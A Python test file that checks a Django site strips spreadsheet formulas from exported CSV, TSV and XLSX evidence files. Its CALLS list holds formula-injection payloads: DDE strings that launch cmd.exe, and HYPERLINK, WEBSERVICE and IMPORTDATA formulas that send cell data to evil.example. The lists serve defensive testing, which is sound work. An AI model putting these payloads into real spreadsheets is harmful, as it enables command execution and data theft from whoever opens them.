"""No table leaves this site that calculates, fetches or starts anything where it is opened in a spreadsheet.

Tables leave it as evidence alone: CSV, TSV and workbooks, cleaned when they come in. No page or operation makes one of its own.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

from cairn.apps.assessment.models import ScoreSheet
from cairn.apps.catalog import commands as catalog
from cairn.apps.catalog.models import Microcredential
from cairn.apps.portfolio import commands as portfolio
from cairn.site.worker import drain
from tests import files_world
from tests.architecture.source import ROOT
from tests.hostile.packages import xlsx_that_calls
from tests.integration.test_blindness import walk
from tests.packs_world import pack_files, parts
from tests.scoring_world import signed_in
from tests.world import SYSTEM

CALLS = (
    "=1+1", "+1+1", "-2+3", "@SUM(1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    '=HYPERLINK("http://evil.example/?"&A1,"Open")', '=WEBSERVICE("http://evil.example/"&A1)', '=IMPORTXML("http://evil.example","//a")',
    '=IMPORTDATA("http://evil.example")', '=IMAGE("http://evil.example/a.png")', "='file:///etc/passwd'#$passwd.A1",
    "=10+20+cmd|' /C calc'!A0", "+thespanishinquisition(cmd|' /C calc'!A", "-1-cmd|' /C calc'!A0", "=1", "-A1", "+A1", "@A1",
)  # fmt: skip
LEADS = (
    "", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\ufeff", "\u200b\t", '"', '""', "a;", 'a;"', "a;\t", "a\t", "\x0b",
    "a\n", "a;\n", 'a"\n',
)  # fmt: skip
WIDE = {"=": "＝", "+": "＋", "-": "－", "@": "＠"}
FORMULAS = [*(f"{lead}{call}" for lead in LEADS for call in CALLS), *(WIDE[call[0]] + call[1:] for call in CALLS)]
# Where a program begins to calculate: at the start of a cell, behind what it leaves out. Where other signs part cells, lines of a cell are
# rows, and a list with dashes calculates nothing.
NUMBER = r"[\d.,]+%?\s*(?:[;\t\n]|$)"
CALCULATES = re.compile(rf'(?:^|[;\t])[\s"\u00a0\u3000\u200b]*(?:[=@＝＠]|[+\-＋－](?!{NUMBER}))')
CALCULATES_ELSEWHERE = re.compile(rf'[\s"\u00a0\u3000]*(?:[=@＝＠]|[+＋](?!{NUMBER})|[-－](?!{NUMBER}).*[|(])')
KEPT = ("yes", "-2", "+4.5%", "-1,000.50", "3=3", "a-b", "e@school.example", "2024-01-02", "'=1", "Goals:\n- read", "")
# By which a program would know a table; evidence is handed over as "application/octet-stream".
TABLES = re.compile(r"text/csv|tab-separated|spreadsheet|ms-excel|\.xlsx?\b|\.ods\b|\.csv\b|\.tsv\b|import csv|openpyxl|xlsxwriter", re.I)


def table(cells: list[str], delimiter: str, end: str = "\r\n") -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator=end, quoting=csv.QUOTE_ALL).writerows(
        [["goal", f"met {ord(delimiter)}"], *(["reading", c] for c in cells)]
    )
    return out.getvalue().encode()


@pytest.fixture
def read(world):
    """What a reader is given of files, by their endings."""

    def given(*files: tuple[str, bytes]) -> list[tuple[str, bytes]]:
        own = parts(["1a", "1b"], (3, 60))
        own[1]["artifacts"][0] |= {"types": ["document", "spreadsheet"], "files": {"min": 0, "max": 9}}
        own[1]["artifacts"][0].pop("max_pages", None)
        catalog.import_pack(actor=SYSTEM, files=pack_files(world.slug, change={"parts": own}))
        drain()
        world.microcredential = Microcredential.objects.get()
        reader, _ = world.assessors(2)
        actor, run = world.enrolled()
        for name, data in files:
            world.add_file(actor, run, "plan", data, name)
        world.fill(actor, run)
        portfolio.submit(actor=actor, enrollment_id=run.pk)
        drain()
        assert ScoreSheet.objects.filter(assessor_id=reader.person_id).exists()
        met = [each for each in walk(signed_in(reader)) if b"attachment" in each.headers]
        named = {re.search(rb'filename="([^"]+)"', each.headers)[1].decode(): each for each in met}
        assert all(b"application/octet-stream" in each.headers for each in met)
        return [(name.rpartition(".")[2], each.content) for name, each in sorted(named.items())]

    return given


def cells_of(data: bytes, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode(), newline=""), delimiter=delimiter) for cell in row]


@pytest.mark.django_db
def test_no_cell_of_a_table_that_a_reader_is_given_calculates(read):
    sent = [*FORMULAS, *KEPT]
    given = read(("plan.csv", table(sent, ",")), ("plan.tsv", table(sent, "\t", "\n")), ("plan.txt", table(sent, ";", "\n")))
    assert [ending for ending, _ in given] == ["csv", "csv", "csv"]
    for _, data in given:
        cells = cells_of(data)
        assert len(cells) == 2 * (len(sent) + 1)
        assert [cell for cell in cells if CALCULATES.search(cell)] == []
        for sign in ";\t":
            assert [cell for cell in cells_of(data, sign) if CALCULATES_ELSEWHERE.match(cell)] == []
        assert cells[1 - 2 * len(KEPT) :: 2] == list(KEPT)


@pytest.mark.django_db
def test_a_workbook_that_a_reader_is_given_reaches_nothing_and_texts_in_it_stay_texts(read):
    escaped = [call.replace("&", "&amp;").replace("<", "&lt;") for call in FORMULAS if call.isprintable()]
    calls = xlsx_that_calls("http://evil.example")
    texts, calling = read(("a.xlsx", files_world.make_xlsx(rows=[(call, "x") for call in escaped])), ("b.xlsx", calls))
    assert re.findall(r"<f[ >].*?</f>", inside(texts)) == []
    assert inside(texts).count("<is><t>") == 2 * len(escaped)
    reaching = ["<f>NA()</f>"] * 3 + ['<f>HYPERLINK("http://evil.example","Open")</f>', "<f>NA()</f>"]
    assert re.findall(r"<f[ >].*?</f>", inside(calling).replace("&quot;", '"')) == reaching
    assert "/C calc" not in inside(calling)


def inside(book: tuple[str, bytes]) -> str:
    ending, data = book
    assert ending == "xlsx"
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return b"".join(package.read(name) for name in package.namelist()).decode()


@pytest.mark.parametrize("call", ["=1+1", "\t=1", "a;=1", "＝1", '"=1', "-A1"])
def test_the_search_finds_a_cell_that_calculates(call):
    """Otherwise finding nothing would mean nothing."""
    assert CALCULATES.search(call)


def test_no_page_or_operation_makes_a_table_of_its_own():
    """Whoever adds an export makes it where formulas are taken out, and has it read here."""
    sources = [*(ROOT / "cairn" / "interfaces").rglob("*.py"), *(ROOT / "cairn" / "apps").rglob("*.py")]
    found = {str(path.relative_to(ROOT)) for path in sources if TABLES.search(path.read_text())}
    assert found == KNOWN
    assert found >= MAKERS
    for maker in MAKERS:
        text = (ROOT / maker).read_text()
        assert "pure.files import as_csv" in text or "import table_file" in text, maker


# Pages whose tables leave: made by `as_csv` and `as_workbook`, in which no cell is a formula (tests/unit/files/test_writing.py).
MAKERS = {
    "cairn/interfaces/web/views/numbers.py",
    "cairn/interfaces/web/views/surveys.py",
    "cairn/interfaces/web/views/announcing.py",
    "cairn/interfaces/web/views/boards.py",
    "cairn/interfaces/web/views/research.py",
    "cairn/interfaces/web/views/officers.py",
    "cairn/interfaces/web/views/licensing/leaving.py",
}
KNOWN = {
    "cairn/apps/portfolio/outward/examining.py",  # which types of evidence are which kind of file
    "cairn/interfaces/web/views/learning/slots.py",  # what a browser offers to choose from
    "cairn/interfaces/web/forms/imports.py",  # what is read, row by row
    "cairn/interfaces/web/forms/money.py",
    "cairn/interfaces/web/forms/communities.py",
    "cairn/apps/communities/outward.py",  # what may stand beside a post
    "cairn/interfaces/web/packed.py",  # as_csv and as_workbook, on their way out
    "cairn/interfaces/cli/main.py",
    "cairn/interfaces/web/views/money/__init__.py",  # addresses
    "cairn/interfaces/web/views/pilots/__init__.py",
    "cairn/interfaces/web/views/recognizing/__init__.py",
    "cairn/apps/licensure/queries/statewide.py",  # a file between two databases, which nobody opens
    *MAKERS,
}
